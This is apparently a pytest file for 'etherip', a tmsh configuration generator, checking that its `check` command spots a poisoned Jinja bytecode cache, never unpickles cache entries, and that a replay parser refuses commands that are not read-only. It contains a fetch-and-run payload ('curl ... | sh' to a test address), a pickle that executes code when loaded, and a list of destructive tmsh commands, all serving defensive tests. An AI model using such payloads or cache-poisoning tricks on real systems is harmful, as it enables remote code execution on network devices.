"""`etherip check` cannot be fooled by the template cache `render` fills (issue 18).

A crafted bytecode cache entry makes `render` write a step file with `run util bash -c ...`;
`check` compiles its reference render from the installed templates without any cache, so it
finds the changed file. And it never even reads an entry: Jinja unpickles an entry's checksum
before comparing it (pallets/jinja, src/jinja2/bccache.py, Bucket.load_bytecode), so a
crafted pickle would run as it is read. The tmsh replay treats only known read-only commands
as reads.
"""

from __future__ import annotations

import os
import pickle
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest
from jinja2.bccache import bc_magic

from generator import templating
from generator.proof.tmsh.script import ScriptError, parse_command
from tests.helpers import CASES_DIR, ROOT

CASE, VERSION = "ha-both", "11.6.5"
PAYLOAD = 'run util bash -c "curl -s http://198.51.100.99/x | sh"'
STEP2 = "step.tmsh.j2"  # the template of every apply and rollback step file


def _etherip(cache: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "ETHERIP_CACHE_DIR": str(cache)}
    return subprocess.run(
        [sys.executable, "-m", "generator", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=300,
        check=False,
    )


def _bucket(cache: Path, name: str) -> tuple[jinja2.Environment, jinja2.bccache.Bucket, str]:
    """The cache entry `render` would load for template `name` (same folder, key, checksum)."""
    os.environ["ETHERIP_CACHE_DIR"] = str(cache)
    try:
        templating.environment.cache_clear()
        env = templating.environment()
    finally:
        del os.environ["ETHERIP_CACHE_DIR"]
        templating.environment.cache_clear()
    assert env.loader is not None and env.bytecode_cache is not None
    source, filename, _ = env.loader.get_source(env, name)
    return env, env.bytecode_cache.get_bucket(env, name, filename, source), source


def _poison(cache: Path) -> None:
    """Store other code under the step template's key and checksum: every step file (02-tunnel.tmsh
    among them) gets the payload."""
    env, bucket, source = _bucket(cache, STEP2)
    filename = bucket.key
    bucket.code = env.compile(source.rstrip("\n") + f"\n{PAYLOAD}\n", STEP2, filename)
    assert env.bytecode_cache is not None
    env.bytecode_cache.set_bucket(bucket)


def test_check_is_not_fooled_by_a_poisoned_template_cache(tmp_path: Path) -> None:
    cache, out = tmp_path / "cache", tmp_path / "out"
    _poison(cache)
    rendered = _etherip(cache, "render", str(CASES_DIR / f"{CASE}.yaml"), "--out", str(out))
    assert rendered.returncode == 0, rendered.stderr
    tunnels = sorted(out.rglob("02-tunnel.tmsh"))
    assert tunnels and all(PAYLOAD in p.read_text() for p in tunnels)  # the cache was used
    checked = _etherip(cache, "check", str(out))
    assert checked.returncode == 1, checked.stdout + checked.stderr
    for path in tunnels:
        assert f"{path}: render: changed: differs from etherip's render" in checked.stderr
    assert "Traceback" not in checked.stderr


def test_check_never_reads_a_cache_entry(tmp_path: Path) -> None:
    """An entry whose checksum is a pickle that writes a file when loaded: `render` runs it
    (this is how Jinja reads entries), `check` never loads it."""
    cache, out, marker = tmp_path / "cache", tmp_path / "out", tmp_path / "unpickled"
    rendered = _etherip(cache, "render", str(CASES_DIR / f"{CASE}.yaml"), "--out", str(out))
    assert rendered.returncode == 0, rendered.stderr

    class Opens:
        def __reduce__(self) -> tuple[object, tuple[str, str]]:
            return open, (str(marker), "w")

    payload = bc_magic + pickle.dumps(Opens())
    entries = sorted(cache.rglob("*.cache"))
    assert entries
    for entry in entries:
        entry.write_bytes(payload)
    checked = _etherip(cache, "check", str(out))
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert not marker.exists()
    _etherip(cache, "render", str(CASES_DIR / f"{CASE}.yaml"), "--out", str(tmp_path / "again"))
    assert marker.exists()  # the danger is real: render unpickled it


@pytest.mark.parametrize(
    "command",
    [
        PAYLOAD,
        "run util bash",
        "run util tmsh -c {delete net vlan all}",
        "run util imish",
        "run util {ping} -c 1 10.0.0.1",
        "list net vlan | run util bash",
        "reboot",
        "run sys failover standby",
    ],
)
def test_replay_refuses_what_is_not_known_read_only(command: str) -> None:
    with pytest.raises(ScriptError):
        parse_command(1, command)


@pytest.mark.parametrize(
    "command",
    [
        "run util ping -c 3 198.51.100.1",
        "show cm sync-status",
        "list net vlan /Common/x tag",
        "list sys db x",
    ],
)
def test_replay_reads_what_is_read_only(command: str) -> None:
    assert parse_command(1, command).verb == "read"
